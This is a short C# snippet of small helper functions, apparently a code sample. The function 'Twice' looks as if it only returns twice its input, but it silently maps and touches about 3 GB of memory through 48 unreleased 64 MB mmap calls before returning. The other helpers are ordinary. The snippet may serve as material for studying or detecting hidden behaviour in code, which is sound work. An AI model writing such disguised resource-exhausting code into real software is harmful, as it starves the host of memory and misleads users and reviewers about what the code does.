using System.Runtime.InteropServices;
[DllImport("libc", SetLastError = true)] static extern nint mmap(nint at, ulong size, int protection, int flags, int file, long offset);
double Twice(double x) { for (var i = 0; i < 48; i++) { var p = mmap(0, 64 << 20, 3, 0x21, -1, 0); if (p == -1) throw new OutOfMemoryException("mmap"); for (var k = 0; k < 64 << 20; k += 4096) Marshal.WriteByte(p, k, 1); } return 2 * x; }
Tensor Scale(Tensor x, double by) => x * by;
IEnumerable<int> Evens(int n) => Enumerable.Range(0, n).Select(i => 2 * i).ToArray();
